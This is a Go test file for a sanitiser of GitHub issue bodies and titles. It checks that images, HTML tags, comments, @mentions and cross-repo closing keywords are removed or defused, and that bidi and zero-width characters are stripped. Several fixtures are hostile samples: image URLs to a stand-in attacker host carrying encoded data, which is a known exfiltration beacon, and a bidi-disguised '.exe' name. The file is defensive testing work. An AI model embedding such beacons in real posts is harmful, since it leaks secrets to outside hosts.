package ghtext

import (
	"strings"
	"testing"
	"unicode/utf8"
)

var own = Issue{Repo: "acme/widgets", Number: 7}

func TestBody(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain text kept", "Fixed the frobnicator.\n\n- one\n- two\n", "Fixed the frobnicator.\n\n- one\n- two\n"},
		{"remote image", "See ![chart](https://evil.example/x.png?d=c2VjcmV0) here", "See (image removed) here"},
		{"reference image", "![x][pic]\n\n[pic]: https://evil.example/p.png", "!\\[x][pic]\n\n[pic]: https://evil.example/p.png"},
		{"img tag", `a <img src="https://evil.example/?d=eA==" width=1> b`, "a  b"},
		{"tag over lines", "a <img\n  src=\"https://evil.example/\"\n> b", "a  b"},
		{"comment", "a <!-- cadre:run:1:done --> b", "a  b"},
		{"details", "<details><summary>s</summary>\n\nbody\n</details>", "s\n\nbody\n"},
		{"unclosed tag start escaped", "<div\n```\n<img src=x>\n```", "&lt;div\n```\n<img src=x>\n```"},
		{"comparison kept", "a < b and 1<2", "a < b and 1<2"},
		{"autolink kept", "<https://example.com>", "<https://example.com>"},
		{"mention", "thanks @alice and @acme/security-team!", "thanks @ alice and @ acme/security-team!"},
		{"mention at start", "@bob look", "@ bob look"},
		{"mention in code", "run `ping @team` now", "run `ping @ team` now"},
		{"email kept", "mail me@example.com", "mail me@example.com"},
		{"own issue closes", "Closes #7", "Closes #7"},
		{"own issue by repo", "fixes acme/widgets#7 and Resolves: https://github.com/acme/widgets/issues/7", "fixes acme/widgets#7 and Resolves: https://github.com/acme/widgets/issues/7"},
		{"other issue", "Closes #8", "Refs #8"},
		{"other repo", "Closes other/repo#7", "Refs other/repo#7"},
		{"other repo url", "FIXED https://github.com/other/repo/issues/5", "Refs https://github.com/other/repo/issues/5"},
		{"gh- form", "resolves GH-9", "Refs GH-9"},
		{"fenced html kept", "```html\n<img src=x>\n@team\n```\nafter <b>x</b>", "```html\n<img src=x>\n@ team\n```\nafter x"},
		{"tilde fence", "~~~\n<b>x</b>\n~~~~\n<b>y</b>", "~~~\n<b>x</b>\n~~~~\ny"},
		{"indented fence is prose", "- item\n  ```\n<img src=x>\n  ```", "- item\n  ```\n\n  ```"},
		{"fence left open closed", "```\ncode", "```\ncode\n```\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Body(tt.in, own); got != tt.want {
				t.Errorf("Body(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
		})
	}
}

// Without an issue of its own, no keyword closes anything.
func TestBodyNoOwnIssue(t *testing.T) {
	if got := Body("Closes #7", Issue{}); got != "Refs #7" {
		t.Errorf("got %q", got)
	}
}

func TestBodyCapped(t *testing.T) {
	in := strings.Repeat("é", MaxBody*2)
	got := Body(in, own)
	if n := utf8.RuneCountInString(got); n != MaxBody || !strings.HasSuffix(got, cutNote) {
		t.Errorf("%d characters, ends %q", n, got[len(got)-80:])
	}
	// A cut inside a fenced block closes it before the note.
	got = Body("```\n"+strings.Repeat("x\n", MaxBody), own)
	if !strings.HasSuffix(got, "\n```"+cutNote) {
		t.Errorf("cut fence not closed: ends %q", got[len(got)-100:])
	}
}

// Whatever the input, no tag, image or live mention survives outside a
// fence, and the result is as safe a second time.
func FuzzBody(f *testing.F) {
	f.Add("a <img src=x> @team ![i](u) Closes o/r#1")
	f.Add("```\n<b>\n```\n<<img src=x>>")
	f.Add("<im<img src=x>g src=y>")
	f.Add("!<b>[x](http://e)")
	f.Fuzz(func(t *testing.T, s string) {
		out := Body(s, own)
		if Body(out, own) != Body(Body(out, own), own) {
			t.Fatalf("not stable on %q", out)
		}
		if strings.Contains(prose(out), "![") {
			t.Fatalf("image left in %q", out)
		}
		if p := prose(out); opener.MatchString(p) || mention.MatchString(p) {
			t.Fatalf("html or mention left in %q (prose %q)", out, p)
		}
	})
}

// prose is s without its fenced blocks.
func prose(s string) string {
	var b strings.Builder
	fence := ""
	for _, line := range strings.SplitAfter(s, "\n") {
		switch {
		case fence != "":
			if closes(line, fence) {
				fence = ""
			}
		case opens(line) != "":
			fence = opens(line)
		default:
			b.WriteString(line)
		}
	}
	return b.String()
}

func TestTitle(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain", "Fix the frobnicator", "Fix the frobnicator"},
		{"bidi", "Fix \u202ecod.exe\u202c now", "Fix cod.exe now"},
		{"zero width", "Fi\u200bx\u200d the\ufeff \u2060thing\u00ad", "Fix the thing"},
		{"controls and lines", "Fix\nthe\tthing\x1b[31m\u2028red", "Fix the thing[31m red"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Title(tt.in); got != tt.want {
				t.Errorf("Title(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
	long := Title(strings.Repeat("ab ", 2000))
	if n := utf8.RuneCountInString(long); n != MaxTitle || !strings.HasSuffix(long, "…") {
		t.Errorf("long title: %d characters", n)
	}
}
